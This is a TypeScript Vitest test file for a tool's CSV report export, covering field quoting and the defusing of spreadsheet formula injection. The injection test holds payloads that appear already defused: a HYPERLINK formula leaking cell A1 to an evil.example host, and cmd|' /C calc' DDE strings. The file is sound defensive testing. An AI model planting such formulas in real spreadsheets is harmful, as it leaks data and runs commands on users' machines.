import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, csvField, defuseFormula } from '../../src/render/report/csv.js';
import { DAY_LOG, hasDayLog, messagesJson, sgtrail } from '../helpers/golden.js';

function csv(file: string, extra: string[] = []): string[][] {
  const r = sgtrail(['report', '--format', 'csv', '--quiet', ...extra, file]);
  expect(r.status).toBe(0);
  expect(r.stdout.endsWith('\r\n')).toBe(true);
  // Every record ends in CRLF (RFC 4180); a bare LF only appears inside a quoted field.
  return parse(r.stdout, { relax_column_count: false, record_delimiter: '\r\n' }) as string[][];
}

/** Undoes the formula defusing, to compare with the raw values. */
const undefuse = (s: string) => (/^'[=+\-@\t\r]/.test(s) ? s.slice(1) : s);

function checkAgainstMessages(file: string, extra: string[] = []): void {
  const [header, ...rows] = csv(file, extra);
  expect(header).toEqual([...CSV_COLUMNS]);
  const expected = messagesJson([...extra, file]).filter((m) => m['error_list'] === true);
  expect(rows.length).toBe(expected.length);
  rows.forEach((row, i) => {
    const m = expected[i] as Record<string, unknown>;
    CSV_COLUMNS.forEach((col, j) => {
      expect(undefuse(row[j] as string), `${i}:${col}`).toBe(m[col] === null ? '' : String(m[col]));
    });
  });
}

describe('report --format csv', () => {
  it('story: one row per error-list message, the values of messages --json', () => checkAgainstMessages('samples/story.log'));
  it('mixed.log', () => checkAgainstMessages('test/fixtures/report/mixed.log'));
  it('mixed.log --redact', () => {
    const rows = csv('test/fixtures/report/mixed.log', ['--redact']);
    for (const row of rows.slice(1)) expect(row[0]).toMatch(/^user-\d+@/);
  });
  it.skipIf(!hasDayLog)('samples/day.log', { timeout: 300_000 }, () => checkAgainstMessages(DAY_LOG));

  it('formula injection: cells starting with = + - @ tab CR are defused with a quote', () => {
    const rows = csv('test/fixtures/report/formula-injection.ndjson');
    const reasons = rows.slice(1).map((r) => r[CSV_COLUMNS.indexOf('reason')] as string);
    expect(reasons).toEqual([
      `'=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")`,
      `'+1+cmd|' /C calc'!A0`,
      `'-2+3+cmd|' /C calc'!A0`,
      `'@SUM(1+9)*cmd|' /C calc'!A0`,
      "'\t=1+1 tab first",
      "'\r=1+1 carriage return first",
      'plain reason, with a comma and "quotes"\nand a second line',
      '550 5.1.1 user unknown',
    ]);
    // Not only reasons: every cell of every row.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows[7]?.[0]).toBe("'=grace@example.com");
    expect(rows[8]?.[1]).toBe("'-DashStartsTheIdXXXXXXX");
  });

  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\rhere', '"cr\rhere"'],
    ['', ''],
  ])('csvField(%j) = %j', (input, expected) => {
    expect(csvField(input)).toBe(expected);
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@x', "'@x"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ['a=1', 'a=1'],
    [' =1', ' =1'],
    ['', ''],
  ])('defuseFormula(%j) = %j', (input, expected) => {
    expect(defuseFormula(input)).toBe(expected);
  });
});
